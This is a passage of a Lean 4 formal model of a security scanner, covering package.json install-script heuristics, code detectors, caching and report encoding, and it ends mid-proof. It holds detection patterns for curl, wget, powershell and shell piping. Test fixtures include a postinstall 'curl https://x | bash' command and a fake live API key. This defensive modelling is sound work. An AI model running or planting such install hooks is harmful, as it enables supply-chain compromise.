        | 'f' :: 'a' :: 'l' :: 's' :: 'e' :: r => some (Json.bool false, r)
        | s2 => (parseNumber s2).map fun p => (Json.num p.1, p.2)
  | fuel + 1, JMode.items acc, s =>
    match parseJ fuel JMode.val s with
    | none => none
    | some (v, rest) =>
      match skipWs rest with
      | ',' :: r2 => parseJ fuel (JMode.items (acc ++ [v])) r2
      | ']' :: r2 => some (Json.arr (acc ++ [v]), r2)
      | _ => none
  | fuel + 1, JMode.members acc, s =>
    match skipWs s with
    | '"' :: r =>
      match parseStringBody r with
      | none => none
      | some (key, r2) =>
        match skipWs r2 with
        | ':' :: r3 =>
          match parseJ fuel JMode.val r3 with
          | none => none
          | some (v, r4) =>
            let acc' := insertMember acc ⟨key⟩ v
            match skipWs r4 with
            | ',' :: r5 => parseJ fuel (JMode.members acc') r5
            | c :: r5 => if c = rbrace then some (Json.obj acc', r5) else none
            | [] => none
        | _ => none
    | _ => none

/-- `JSON.parse`, modelled: parse one value and require only whitespace
after it. -/
def jsonParse (content : List Char) : Option Json :=
  match parseJ (2 * content.length + 4) JMode.val content with
  | some (v, rest) => if (skipWs rest).isEmpty then some v else none
  | none => none

/-! ### `scanPackageScripts` and its regex tests

The four regexes of `scanPackageScripts` carry no `g` flag, so their
`test` calls are stateless; each is modelled by its existential match
semantics.  The install-script alternation
`(pre|post)?install|prepare|prepublish|postpublish|prepack|postpack` is an
unanchored test, hence equivalent to containment of one of the literal
alternatives (`(pre|post)?install` matches somewhere iff `install` occurs,
the optional prefix being subsumed). -/

/-- Unanchored literal containment (`/lit/.test(s)` for a literal). -/
def containsSub (pat s : List Char) : Bool := (litFind pat s 0).isSome

def isInstallScript (name : List Char) : Bool :=
  containsSub "install".toList name || containsSub "prepare".toList name
    || containsSub "prepublish".toList name || containsSub "postpublish".toList name
    || containsSub "prepack".toList name || containsSub "postpack".toList name

/-- `/(curl|wget|invoke-webrequest|powershell)/` on the lowered command. -/
def remoteFetchTest (lower : List Char) : Bool :=
  containsSub "curl".toList lower || containsSub "wget".toList lower
    || containsSub "invoke-webrequest".toList lower || containsSub "powershell".toList lower

/-- ECMAScript line terminators (which `.` does not match). -/
def isLineTermJS (c : Char) : Bool :=
  c = '\n' || c = '\r' || c.toNat = 0x2028 || c.toNat = 0x2029

/-- ECMAScript `\s` on the characters that occur in practice (space, tab,
line terminators, vertical tab, form feed, NBSP, BOM; the exotic Unicode
space separators are omitted — none can appear in the inputs used). -/
def jsWhitespace (c : Char) : Bool :=
  c = ' ' || c = '\t' || c = '\n' || c = '\r' || c.toNat = 11 || c.toNat = 12
    || c.toNat = 0xa0 || c.toNat = 0xfeff || c.toNat = 0x2028 || c.toNat = 0x2029

/-- `/(curl|wget).*(\|\s*(sh|bash))/` on the lowered command: somewhere a
`curl`/`wget`, then non-line-terminator characters, then `|`, then
whitespace, then `sh` or `bash`. -/
def remoteExecTest (s : List Char) : Bool :=
  (List.range (s.length + 1)).any fun p =>
    (litMatchAt "curl".toList s p || litMatchAt "wget".toList s p) &&
    ((List.range (s.length + 1)).any fun q =>
      decide (p + 4 ≤ q) &&
      ((sliceChars s (p + 4) (q - (p + 4))).all fun c => !isLineTermJS c) &&
      (s.get? q == some '|') &&
      ((List.range (s.length + 1)).any fun r =>
        decide (q + 1 ≤ r) &&
        ((sliceChars s (q + 1) (r - (q + 1))).all jsWhitespace) &&
        (litMatchAt "sh".toList s r || litMatchAt "bash".toList s r)))

/-- `/(chmod|chown)/` on the lowered command. -/
def permissionChangeTest (lower : List Char) : Bool :=
  containsSub "chmod".toList lower || containsSub "chown".toList lower

def mkInstallScriptFinding (file : String) (name : String) : Finding :=
  { ruleId := "SUPPLY_CHAIN_INSTALL_SCRIPT", severity := "MEDIUM"
    message := "Auto-run script detected in package.json: " ++ name
    file := file, category := some "supply_chain"
    remediation := some "Review install scripts carefully and remove if unnecessary."
    source := some "heuristic" }

def mkRemoteFetchFinding (file : String) : Finding :=
  { ruleId := "SUPPLY_CHAIN_REMOTE_FETCH", severity := "HIGH"
    message := "Install script fetches remote content"
    file := file, category := some "supply_chain"
    remediation := some "Avoid remote fetch in install scripts. Vendor dependencies securely."
    source := some "heuristic" }

def mkRemoteExecFinding (file : String) : Finding :=
  { ruleId := "SUPPLY_CHAIN_REMOTE_EXEC", severity := "CRITICAL"
    message := "Install script pipes remote content to shell"
    file := file, category := some "supply_chain"
    remediation := some "Never pipe remote content to shell during install."
    source := some "heuristic" }

def mkPermissionChangeFinding (file : String) : Finding :=
  { ruleId := "SUPPLY_CHAIN_PERMISSION_CHANGE", severity := "HIGH"
    message := "Install script modifies file permissions"
    file := file, category := some "supply_chain"
    remediation := some "Avoid permission changes in install scripts unless required and documented."
    source := some "heuristic" }

/-- One iteration of `for (const [name, command] of Object.entries(scripts))`:
non-string commands are skipped; the findings are pushed in source order. -/
def processScript (file : String) (entry : String × Json) : List Finding :=
  match entry.2 with
  | Json.str c =>
    let name := entry.1
    let lower := c.toList.map Char.toLower
    let inst := isInstallScript name.toList
    (if inst then [mkInstallScriptFinding file name] else [])
      ++ (if inst && remoteFetchTest lower then [mkRemoteFetchFinding file] else [])
      ++ (if inst && remoteExecTest lower then [mkRemoteExecFinding file] else [])
      ++ (if permissionChangeTest lower then [mkPermissionChangeFinding file] else [])
  | _ => []

/-- `Object.entries(scripts)` for the shapes that pass
`!scripts || typeof scripts !== "object"` — plain objects (insertion
order) and arrays (index keys). -/
def scriptEntries : Json → List (String × Json)
  | Json.obj kvs => kvs
  | Json.arr xs => xs.enum.map fun p => (toString p.1, p.2)
  | _ => []

/-- `scanPackageScripts`: bail out unless the content parses as JSON with
an object-typed `scripts` property; then analyze each script entry. -/
def scanPackageScripts (file : String) (content : List Char) : List Finding :=
  match jsonParse content with
  | none => []
  | some parsed =>
    let scripts : Option Json := match parsed with
      | Json.obj kvs => kvs.lookup "scripts"
      | _ => none
    match scripts with
    | some (Json.obj kvs) => ((Json.obj kvs |> scriptEntries).map (processScript file)).flatten
    | some (Json.arr xs) => ((Json.arr xs |> scriptEntries).map (processScript file)).flatten
    | _ => []

/-- Modelled from the spec: §4.4.4 Code Analyzer — `code-analyzer.ts` is
not under `src/`; only its import and call site (`heuristics.ts`) are.
The spec says it "applies a short list of cross-cutting detectors (e.g.,
`eval`-like constructs, dynamic code loading, command construction by
string concatenation)", independent of the rule corpus.  Modelled as
case-insensitive containment detectors for those three families, one
heuristic finding per family hit. -/
def analyzeCode (filePath : String) (content : List Char) (_fileType : String) :
    List Finding :=
  let lower := content.map Char.toLower
  (if containsSub "eval(".toList lower || containsSub "exec(".toList lower
      || containsSub "new function(".toList lower then
    [{ ruleId := "HEURISTIC_EVAL_CONSTRUCT", severity := "HIGH"
       message := "Dynamic code evaluation construct", file := filePath
       category := some "heuristic_code", source := some "heuristic" }] else [])
  ++ (if containsSub "__import__".toList lower || containsSub "importlib".toList lower
      || containsSub "require(".toList lower then
    [{ ruleId := "HEURISTIC_DYNAMIC_LOAD", severity := "MEDIUM"
       message := "Dynamic code loading", file := filePath
       category := some "heuristic_code", source := some "heuristic" }] else [])
  ++ (if containsSub "os.system".toList lower || containsSub "subprocess".toList lower
      || containsSub "child_process".toList lower then
    [{ ruleId := "HEURISTIC_COMMAND_CONSTRUCTION", severity := "MEDIUM"
       message := "Shell command construction", file := filePath
       category := some "heuristic_code", source := some "heuristic" }] else [])

/-- `runHeuristics` (`heuristics.ts`), parameterized by the extension
manifest analyzer (`extensions/browser/manifest.ts`, also not under
`src/`) and by the code analyzer, so that statements quantify over any
implementation of the missing modules. -/
def runHeuristics
    (analyzeExtensionManifest : String → List Char → List Finding)
    (analyzeCodeImpl : String → List Char → String → List Finding)
    (filePath : String) (content : List Char) (fileType : String) :
    List Finding :=
  detectHighEntropyStrings filePath content
    ++ (if fileType == "json" && basename filePath == "package.json" then
        scanPackageScripts filePath content else [])
    ++ (if (fileType == "manifest" || fileType == "json")
          && basename filePath == "manifest.json" then
        analyzeExtensionManifest filePath content else [])
    ++ (if fileType == "javascript" || fileType == "typescript"
          || fileType == "python" || fileType == "bash" then
        analyzeCodeImpl filePath content fileType else [])

/-- The package.json of spec scenario 1 (`\x7b`/`\x7d` are braces). -/
def c4content : List Char :=
  "\x7b\"scripts\":\x7b\"postinstall\":\"curl https://x | bash\"\x7d\x7d".toList

/-- The config.py line of spec scenario 2. -/
def c5content : List Char :=
  "KEY = \"sk_live_\" + \"aB3xQ9pL7mN4vT8kR2sY6wE1jH5cF0zD\"".toList

/-! ## Scan cache (`cache.ts`)

The `ScanCache` class is stateful; its state is the entry map plus the
constructor parameters, and each method becomes a state-passing function.
File I/O, `Date.now()` and the SHA-256 content hash are host effects: the
persisted entry list, the clock value and the hash strings are explicit
arguments. -/

structure CacheEntry where
  hash : String
  findings : List Finding
  timestamp : Int
  ruleVersion : String
deriving DecidableEq

structure ScanCache where
  cache : List (String × CacheEntry)
  ruleVersion : String
  maxAge : Int
  dirty : Bool
deriving DecidableEq

/-- The constructor: empty map, defaults `ruleVersion = "1.0"` and
`maxAge` = 7 days in milliseconds. -/
def mkScanCache (ruleVersion : String := "1.0")
    (maxAge : Int := 7 * 24 * 60 * 60 * 1000) : ScanCache :=
  { cache := [], ruleVersion := ruleVersion, maxAge := maxAge, dirty := false }

/-- `Map.delete`. -/
def removeKey (m : List (String × CacheEntry)) (k : String) :
    List (String × CacheEntry) :=
  m.filter fun p => p.1 ≠ k

/-- `Map.set`: replace in place, or append. -/
def setKey (m : List (String × CacheEntry)) (k : String) (v : CacheEntry) :
    List (String × CacheEntry) :=
  match m with
  | [] => [(k, v)]
  | (k0, v0) :: rest =>
    if k0 = k then (k0, v) :: rest else (k0, v0) :: setKey rest k v

/-- `load()`: keep only the persisted entries whose `ruleVersion` matches
the cache's and whose age is within `maxAge`. -/
def loadCache (c : ScanCache) (persisted : List (String × CacheEntry))
    (now : Int) : ScanCache :=
  { c with
    cache := persisted.filter fun p =>
      p.2.ruleVersion == c.ruleVersion && now - p.2.timestamp < c.maxAge }

/-- `getCachedFindings`: miss on absent entry; evict and miss on rule
version mismatch, expiry, or content-hash change; otherwise hit. -/
def getCachedFindings (c : ScanCache) (filePath : String) (now : Int)
    (currentHash : String) : Option (List Finding) × ScanCache :=
  match c.cache.lookup filePath with
  | none => (none, c)
  | some cached =>
    if cached.ruleVersion ≠ c.ruleVersion then
      (none, { c with cache := removeKey c.cache filePath, dirty := true })
    else if c.maxAge < now - cached.timestamp then
      (none, { c with cache := removeKey c.cache filePath, dirty := true })
    else if cached.hash ≠ currentHash then
      (none, { c with cache := removeKey c.cache filePath, dirty := true })
    else (some cached.findings, c)

/-- `setCachedFindings`: store under the cache's own `ruleVersion`. -/
def setCachedFindings (c : ScanCache) (filePath : String)
    (findings : List Finding) (now : Int) (hash : String) : ScanCache :=
  { c with
    cache := setKey c.cache filePath
      { hash := hash, findings := findings, timestamp := now,
        ruleVersion := c.ruleVersion }
    dirty := true }

/-- The rule version `runScan` passes to `new ScanCache`
(`scan.ts:305`): the constant `"1.0"`, whatever the rule-file contents. -/
def runScanRuleVersion (_rulesText : String) : String := "1.0"

/-- A finding stored in the cache in the C2 evaluation. -/
def c2finding : Finding :=
  { ruleId := "R", severity := "HIGH", message := "m", file := "f" }

/-! ## JSON report (`toJson` in `report.ts`)

`toJson` builds a payload object and returns `JSON.stringify(payload,
null, 2)`; the consumer parses it back with `JSON.parse`.  The
`stringify`/`parse` pair is a host inverse on JSON values (undefined-valued
properties are dropped by `stringify`, which the `Option`-field encoders
reproduce), so the round trip is modelled at the JSON-value level:
`toJsonPayload` is the payload construction, and the decoders below are
the field reads a consumer performs on the parsed value. -/

/-- Modelled from the spec: §3 `Target` — the current `types.ts` defining
`Target` (and the `ScanResult` with `targets`) is not under `src/`; only an
older copy with `skills` is.  Fields per the spec:
`{kind, name, path, meta?}` with `meta` an opaque JSON map. -/
structure Target where
  kind : String
  name : String
  path : String
  meta : Option Json := none

/-- Modelled from the spec: §3 `ScanResult` —
`{targets[], findings[], scanned_files, elapsed_ms}` (camel-cased in the
source: `scannedFiles`, `elapsedMs`). -/
structure ScanResult where
  targets : List Target
  findings : List Finding
  scannedFiles : Nat
  elapsedMs : Nat

/-- `JSON.stringify` of a `Finding`: absent (`undefined`) optional fields
produce no property. -/
def encodeFinding (f : Finding) : Json :=
  Json.obj
    ([("ruleId", Json.str f.ruleId), ("severity", Json.str f.severity),
      ("message", Json.str f.message), ("file", Json.str f.file)]
      ++ (match f.line with
          | some n => [("line", Json.num (n : ℚ))]
          | none => [])
      ++ (match f.category with
          | some c => [("category", Json.str c)]
          | none => [])
      ++ (match f.remediation with
          | some r => [("remediation", Json.str r)]
          | none => [])
      ++ (match f.source with
          | some src => [("source", Json.str src)]
          | none => []))

/-- Reading a `Finding` back from its parsed JSON object. -/
def decodeFinding (j : Json) : Option Finding :=
  match j with
  | Json.obj fields =>
    match fields.lookup "ruleId", fields.lookup "severity",
        fields.lookup "message", fields.lookup "file" with
    | some (Json.str rid), some (Json.str sev),
        some (Json.str msg), some (Json.str fl) =>
      some
        { ruleId := rid, severity := sev, message := msg, file := fl
          line :=
            match fields.lookup "line" with
            | some (Json.num q) =>
              if q.den = 1 ∧ 0 ≤ q.num then some q.num.toNat else none
            | _ => none
          category :=
            match fields.lookup "category" with
            | some (Json.str c) => some c
            | _ => none
          remediation :=
            match fields.lookup "remediation" with
            | some (Json.str r) => some r
            | _ => none
          source :=
            match fields.lookup "source" with
            | some (Json.str src) => some src
            | _ => none }
    | _, _, _, _ => none
  | _ => none

/-- `JSON.stringify` of a `Target`. -/
def encodeTarget (t : Target) : Json :=
  Json.obj
    ([("kind", Json.str t.kind), ("name", Json.str t.name),
      ("path", Json.str t.path)]
      ++ (match t.meta with
          | some m => [("meta", m)]
          | none => []))

/-- Reading a `Target` back from its parsed JSON object. -/
def decodeTarget (j : Json) : Option Target :=
  match j with
  | Json.obj fields =>
    match fields.lookup "kind", fields.lookup "name", fields.lookup "path" with
    | some (Json.str k), some (Json.str n), some (Json.str p) =>
      some { kind := k, name := n, path := p, meta := fields.lookup "meta" }
    | _, _, _ => none
  | _ => none

/-- One aggregated row of the `ruleCounts` map. -/
structure RuleCount where
  ruleId : String
  severity : String
  category : Option String
  source : Option String
  count : Nat

/-- One step of the `ruleCounts` aggregation: bump the existing row (first
insertion keeps its position and its severity/category/source) or append a
new one. -/
def bumpRuleCount : List RuleCount → Finding → List RuleCount
  | [], f => [{ ruleId := f.ruleId, severity := f.severity,
                category := f.category, source := f.source, count := 1 }]
  | rc :: rest, f =>
    if rc.ruleId = f.ruleId then { rc with count := rc.count + 1 } :: rest
    else rc :: bumpRuleCount rest f

def ruleCounts (findings : List Finding) : List RuleCount :=
  findings.foldl bumpRuleCount []

/-- `acc[k] = (acc[k] ?? 0) + 1` on an insertion-ordered map. -/
def bumpKey : List (String × Nat) → String → List (String × Nat)
  | [], k => [(k, 1)]
  | (k0, n) :: rest, k =>
    if k0 = k then (k0, n + 1) :: rest else (k0, n) :: bumpKey rest k

/-- `categoryCounts`: only truthy categories are counted. -/
def categoryCounts (findings : List Finding) : List (String × Nat) :=
  findings.foldl
    (fun acc f =>
      match f.category with
      | some c => if c ≠ "" then bumpKey acc c else acc
      | none => acc)
    []

/-- `sourceCounts`, seeded with `signature`/`heuristic`/`unknown`;
an absent source counts as `unknown`. -/
def sourceCounts (findings : List Finding) : List (String × Nat) :=
  findings.foldl (fun acc f => bumpKey acc (f.source.getD "unknown"))
    [("signature", 0), ("heuristic", 0), ("unknown", 0)]

/-- `targetKinds`. -/
def targetKinds (targets : List Target) : List (String × Nat) :=
  targets.foldl (fun acc t => bumpKey acc t.kind) []

/-- `summarizeFindings` (`report.ts`): severity counts seeded with the four
standard severities.  (In JavaScript a non-standard severity would produce
a `NaN` count via `undefined + 1`; the model counts from zero instead —
the summary block is not read back by any claim.) -/
def summarizeFindings (findings : List Finding) : List (String × Nat) :=
  findings.foldl (fun acc f => bumpKey acc f.severity)
    [("LOW", 0), ("MEDIUM", 0), ("HIGH", 0), ("CRITICAL", 0)]

/-- The object counts aggregated from MCP targets' `meta.scannedObjects`.
(`typeof v === "number" && Number.isFinite(v)` — every `Json.num` is
finite in the model, NaN/Infinity not being JSON values.) -/
structure McpObjects where
  tools : ℚ := 0
  prompts : ℚ := 0
  resources : ℚ := 0
  instructions : ℚ := 0

def readScannedObjects (acc : McpObjects) (meta : Option Json) : McpObjects :=
  match meta with
  | some (Json.obj ms) =>
    match ms.lookup "scannedObjects" with
    | some (Json.obj so) =>
      let add (k : String) (v : ℚ) : ℚ :=
        match so.lookup k with
        | some (Json.num q) => v + q
        | _ => v
      { tools := add "tools" acc.tools, prompts := add "prompts" acc.prompts
        resources := add "resources" acc.resources
        instructions := add "instructions" acc.instructions }
    | _ => acc
  | _ => acc

/-- The fallback: derive MCP object counts from `mcp://` virtual paths in
the findings (`finding.file.replace(/^mcp:\/\//, "").split("/")[1]`). -/
def mcpObjectsFromFindings (acc : McpObjects) (findings : List Finding) :
    McpObjects :=
  findings.foldl
    (fun a f =>
      if litMatchAt "mcp://".toList f.file.toList 0 then
        let kind := (splitOnChar '/' (f.file.toList.drop 6)).getD 1 []
        if kind = "tools".toList then { a with tools := a.tools + 1 }
        else if kind = "prompts".toList then { a with prompts := a.prompts + 1 }
        else if kind = "resources".toList then { a with resources := a.resources + 1 }
        else if kind = "instructions.md".toList then
          { a with instructions := a.instructions + 1 }
        else a
      else a)
    acc

def encodeRuleCount (rc : RuleCount) : Json :=
  Json.obj
    ([("ruleId", Json.str rc.ruleId), ("severity", Json.str rc.severity)]
      ++ (match rc.category with
          | some c => [("category", Json.str c)]
          | none => [])
      ++ (match rc.source with
          | some src => [("source", Json.str src)]
          | none => [])
      ++ [("count", Json.num (rc.count : ℚ))])

def encodeCounts (kvs : List (String × Nat)) : Json :=
  Json.obj (kvs.map fun p => (p.1, Json.num (p.2 : ℚ)))

/-- `toJson`'s payload (`report.ts:109-201`), as a JSON value.  The
`.sort((a, b) => b.count - a.count)` calls are stable descending sorts by
count. -/
def toJsonPayload (result : ScanResult) : Json :=
  let mcpTargets := result.targets.filter fun t => t.kind == "mcp"
  let fromMeta := mcpTargets.foldl (fun a t => readScannedObjects a t.meta) {}
  let mcpObjects :=
    if mcpTargets.length ≠ 0 ∧
        fromMeta.tools + fromMeta.prompts + fromMeta.resources
          + fromMeta.instructions = 0 then
      mcpObjectsFromFindings fromMeta result.findings
    else fromMeta
  Json.obj
    [("summary", Json.obj
      [("scannedFiles", Json.num (result.scannedFiles : ℚ)),
       ("elapsedMs", Json.num (result.elapsedMs : ℚ)),
       ("findingCount", Json.num (result.findings.length : ℚ)),
       ("severities", encodeCounts (summarizeFindings result.findings))]),
     ("detected", Json.obj
       ([("targetKinds", encodeCounts (targetKinds result.targets)),
         ("sources", encodeCounts (sourceCounts result.findings)),
         ("rules", Json.arr
           (((ruleCounts result.findings).mergeSort
               (fun a b => b.count ≤ a.count)).map encodeRuleCount)),
         ("categories", Json.arr
           (((categoryCounts result.findings).mergeSort
               (fun a b => b.2 ≤ a.2)).map fun p =>
             Json.obj [("category", Json.str p.1),
                       ("count", Json.num (p.2 : ℚ))]))]
        ++ (if mcpTargets.length ≠ 0 then
            [("mcp", Json.obj
              [("servers", Json.num (mcpTargets.length : ℚ)),
               ("objects", Json.obj
                 [("tools", Json.num mcpObjects.tools),
                  ("prompts", Json.num mcpObjects.prompts),
                  ("resources", Json.num mcpObjects.resources),
                  ("instructions", Json.num mcpObjects.instructions)])])]
          else []))),
     ("targets", Json.arr (result.targets.map encodeTarget)),
     ("findings", Json.arr (result.findings.map encodeFinding))]

/-- Decode a list of findings, failing if any element fails. -/
def decodeFindingList : List Json → Option (List Finding)
  | [] => some []
  | x :: xs =>
    match decodeFinding x, decodeFindingList xs with
    | some f, some fs => some (f :: fs)
    | _, _ => none

/-- Decode a list of targets, failing if any element fails. -/
def decodeTargetList : List Json → Option (List Target)
  | [] => some []
  | x :: xs =>
    match decodeTarget x, decodeTargetList xs with
    | some t, some ts => some (t :: ts)
    | _, _ => none

/-- The `findings` field of the parsed report, decoded. -/
def payloadFindings (j : Json) : Option (List Finding) :=
  match j with
  | Json.obj fields =>
    match fields.lookup "findings" with
    | some (Json.arr xs) => decodeFindingList xs
    | _ => none
  | _ => none

/-- The `targets` field of the parsed report, decoded. -/
def payloadTargets (j : Json) : Option (List Target) :=
  match j with
  | Json.obj fields =>
    match fields.lookup "targets" with
    | some (Json.arr xs) => decodeTargetList xs
    | _ => none
  | _ => none

theorem litFind_valid (pat : List Char) : ValidMatcher (litFind pat) := by
  intro s i j len h
  unfold litFind at h
  cases hf : (List.range (s.length + 1)).find?
      (fun j => decide (i ≤ j) && litMatchAt pat s j) with
  | none => rw [hf] at h; exact absurd h (by simp)
  | some k =>
    rw [hf] at h
    have hp := List.find?_some hf
    have hk : k < s.length + 1 := List.mem_range.mp (List.mem_of_find?_eq_some hf)
    simp only [Bool.and_eq_true, decide_eq_true_eq] at hp
    obtain ⟨hik, hpre⟩ := hp
    have hlen : pat.length ≤ (s.drop k).length :=
      (List.isPrefixOf_iff_prefix.mp hpre).length_le
    simp only [List.length_drop] at hlen
    cases h
    exact ⟨hik, by omega⟩

/-! ## Loop invariants of the signature matcher

`matchLoop`'s scan position strictly increases every iteration (a zero-width
match advances by one, any other match by its length), so for a valid
matcher the fuel `content.length + 2` can never run out.  This is the
termination argument of the source's `while` loop. -/

theorem matchLoop_isSome (m : MatcherFn) (content : List Char)
    (lineIndex : List Nat) (rule : CompiledRule) (filePath : String)
    (hv : ValidMatcher m) :
    ∀ fuel li exc hits, content.length + 2 ≤ fuel + li →
      (matchLoop m content lineIndex rule filePath fuel li exc hits).isSome := by
  intro fuel
  induction fuel with
  | zero =>
    intro li exc hits hle
    cases hm : m content li with
    | none => simp only [matchLoop, hm, Option.isSome_some]
    | some p =>
      obtain ⟨j, len⟩ := p
      have := hv content li j len hm
      omega
  | succ fuel ih =>
    intro li exc hits hle
    cases hm : m content li with
    | none => simp only [matchLoop, hm, Option.isSome_some]
    | some p =>
      obtain ⟨j, len⟩ := p
      have hb := hv content li j len hm
      simp only [matchLoop, hm]
      by_cases hz : len = 0
      · simp only [hz, if_pos rfl]
        exact ih (j + 1) exc hits (by omega)
      · simp only [if_neg hz]
        rcases hp : isExcluded exc (sliceChars content j len) with ⟨hit, exc'⟩
        cases hit with
        | true =>
          simp only
          exact ih (j + len) exc' hits (by omega)
        | false =>
          simp only
          by_cases hcap : maxFindingsPerRulePerFile ≤ hits + 1
          · simp [hcap]
          · simp only [if_neg hcap]
            have := ih (j + len) exc' (hits + 1) (by omega)
            cases hrec : matchLoop m content lineIndex rule filePath fuel (j + len) exc' (hits + 1) with
            | none => rw [hrec] at this; simp at this
            | some q => simp [hrec]

theorem patternsLoop_isSome (content : List Char) (lineIndex : List Nat)
    (rule : CompiledRule) (filePath : String) :
    ∀ ms exc hits, (∀ m ∈ ms, ValidMatcher m) →
      (patternsLoop content lineIndex rule filePath ms exc hits).isSome := by
  intro ms
  induction ms with
  | nil => intro exc hits _; simp [patternsLoop]
  | cons m ms ih =>
    intro exc hits hv
    have h1 := matchLoop_isSome m content lineIndex rule filePath
      (hv m (by simp)) (content.length + 2) 0 exc hits (by omega)
    simp only [patternsLoop]
    cases hm : matchLoop m content lineIndex rule filePath (content.length + 2) 0 exc hits with
    | none => rw [hm] at h1; simp at h1
    | some q =>
      obtain ⟨fs, exc', hits'⟩ := q
      by_cases hcap : maxFindingsPerRulePerFile ≤ hits'
      · simp [hcap]
      · simp only [if_neg hcap]
        have h2 := ih exc' hits' (fun m hm => hv m (by simp [hm]))
        cases hp : patternsLoop content lineIndex rule filePath ms exc' hits' with
        | none => rw [hp] at h2; simp at h2
        | some q2 => simp

theorem scanRules_isSome (content : List Char) (lineIndex : List Nat)
    (filePath fileType : String) :
    ∀ rules, (∀ r ∈ rules, ∀ m ∈ r.compiledPatterns, ValidMatcher m) →
      (scanRules content lineIndex filePath fileType rules).isSome := by
  intro rules
  induction rules with
  | nil => intro _; simp [scanRules]
  | cons r rs ih =>
    intro hv
    have hr := patternsLoop_isSome content lineIndex r filePath
      r.compiledPatterns r.excludeCompiled 0 (hv r (by simp))
    have hrec := ih (fun r' h' => hv r' (by simp [h']))
    simp only [scanRules]
    by_cases hft : isFileTypeMatch r fileType
    · simp only [if_pos hft]
      cases hp : patternsLoop content lineIndex r filePath r.compiledPatterns r.excludeCompiled 0 with
      | none => rw [hp] at hr; simp at hr
      | some q =>
        cases hs : scanRules content lineIndex filePath fileType rs with
        | none => rw [hs] at hrec; simp at hrec
        | some q2 => simp
    · simp only [if_neg hft]
      cases hs : scanRules content lineIndex filePath fileType rs with
      | none => rw [hs] at hrec; simp at hrec
      | some q2 => simp

/-- A matcher that only ever reports zero-width matches never lets
`matchLoop` emit a finding, touch the exclude regexes or count a hit. -/
theorem matchLoop_zeroWidth (m : MatcherFn) (content : List Char)
    (lineIndex : List Nat) (rule : CompiledRule) (filePath : String)
    (hv : ValidMatcher m)
    (hz : ∀ s i j len, m s i = some (j, len) → len = 0) :
    ∀ fuel li exc hits, content.length + 2 ≤ fuel + li →
      matchLoop m content lineIndex rule filePath fuel li exc hits =
        some ([], exc, hits) := by
  intro fuel
  induction fuel with
  | zero =>
    intro li exc hits hle
    cases hm : m content li with
    | none => simp only [matchLoop, hm, Option.isSome_some]
    | some p =>
      obtain ⟨j, len⟩ := p
      have := hv content li j len hm
      omega
  | succ fuel ih =>
    intro li exc hits hle
    cases hm : m content li with
    | none => simp only [matchLoop, hm, Option.isSome_some]
    | some p =>
      obtain ⟨j, len⟩ := p
      have hb := hv content li j len hm
      have hlen := hz content li j len hm
      simp only [matchLoop, hm, hlen, if_pos rfl]
      exact ih (j + 1) exc hits (by omega)

/-! ## Counting invariants: the per-rule finding cap -/

/-- `ruleHits` accounting: a successful `matchLoop` adds exactly its emitted
findings to `ruleHits`, and never pushes it past the cap (assuming it was
below the cap on entry, which `patternsLoop` guarantees). -/
theorem matchLoop_count (m : MatcherFn) (content : List Char)
    (lineIndex : List Nat) (rule : CompiledRule) (filePath : String) :
    ∀ fuel li exc hits fs exc' hits', hits < maxFindingsPerRulePerFile →
      matchLoop m content lineIndex rule filePath fuel li exc hits = some (fs, exc', hits') →
      hits' = hits + fs.length ∧ hits' ≤ maxFindingsPerRulePerFile := by
  intro fuel
  induction fuel with
  | zero =>
    intro li exc hits fs exc' hits' hlt h
    cases hm : m content li with
    | none =>
      simp only [matchLoop, hm, Option.some.injEq, Prod.mk.injEq] at h
      obtain ⟨rfl, rfl, rfl⟩ := h
      exact ⟨by simp, by omega⟩
    | some p =>
      simp only [matchLoop, hm] at h
      exact Option.noConfusion h
  | succ fuel ih =>
    intro li exc hits fs exc' hits' hlt h
    cases hm : m content li with
    | none =>
      simp only [matchLoop, hm, Option.some.injEq, Prod.mk.injEq] at h
      obtain ⟨rfl, rfl, rfl⟩ := h
      exact ⟨by simp, by omega⟩
    | some p =>
      obtain ⟨j, len⟩ := p
      simp only [matchLoop, hm] at h
      by_cases hz : len = 0
      · rw [if_pos hz] at h
        exact ih (j + 1) exc hits fs exc' hits' hlt h
      · rw [if_neg hz] at h
        set p2 := isExcluded exc (sliceChars content j len) with hp2
        by_cases hx : p2.1
        · rw [if_pos hx] at h
          exact ih (j + len) p2.2 hits fs exc' hits' hlt h
        · rw [if_neg hx] at h
          by_cases hcap : maxFindingsPerRulePerFile ≤ hits + 1
          · rw [if_pos hcap] at h
            simp only [Option.some.injEq, Prod.mk.injEq] at h
            obtain ⟨rfl, rfl, rfl⟩ := h
            exact ⟨by simp, by omega⟩
          · rw [if_neg hcap] at h
            cases hrec : matchLoop m content lineIndex rule filePath fuel (j + len) p2.2 (hits + 1) with
            | none => simp only [hrec] at h; exact Option.noConfusion h
            | some q =>
              obtain ⟨fs0, exc0, h0⟩ := q
              simp only [hrec, Option.some.injEq, Prod.mk.injEq] at h
              obtain ⟨rfl, rfl, rfl⟩ := h
              have := ih (j + len) p2.2 (hits + 1) fs0 exc0 h0 (by omega) hrec
              simp only [List.length_cons]
              omega

/-- Every finding emitted by `matchLoop` carries the rule's id. -/
theorem matchLoop_ruleIds (m : MatcherFn) (content : List Char)
    (lineIndex : List Nat) (rule : CompiledRule) (filePath : String) :
    ∀ fuel li exc hits fs exc' hits',
      matchLoop m content lineIndex rule filePath fuel li exc hits = some (fs, exc', hits') →
      ∀ f ∈ fs, f.ruleId = rule.id := by
  intro fuel
  induction fuel with
  | zero =>
    intro li exc hits fs exc' hits' h
    cases hm : m content li with
    | none =>
      simp only [matchLoop, hm, Option.some.injEq, Prod.mk.injEq] at h
      obtain ⟨rfl, rfl, rfl⟩ := h
      simp
    | some p =>
      simp only [matchLoop, hm] at h
      exact Option.noConfusion h
  | succ fuel ih =>
    intro li exc hits fs exc' hits' h
    cases hm : m content li with
    | none =>
      simp only [matchLoop, hm, Option.some.injEq, Prod.mk.injEq] at h
      obtain ⟨rfl, rfl, rfl⟩ := h
      simp
    | some p =>
      obtain ⟨j, len⟩ := p
      simp only [matchLoop, hm] at h
      by_cases hz : len = 0
      · rw [if_pos hz] at h
        exact ih (j + 1) exc hits fs exc' hits' h
      · rw [if_neg hz] at h
        set p2 := isExcluded exc (sliceChars content j len) with hp2
        by_cases hx : p2.1
        · rw [if_pos hx] at h
          exact ih (j + len) p2.2 hits fs exc' hits' h
        · rw [if_neg hx] at h
          by_cases hcap : maxFindingsPerRulePerFile ≤ hits + 1
          · rw [if_pos hcap] at h
            simp only [Option.some.injEq, Prod.mk.injEq] at h
            obtain ⟨rfl, rfl, rfl⟩ := h
            intro f hf
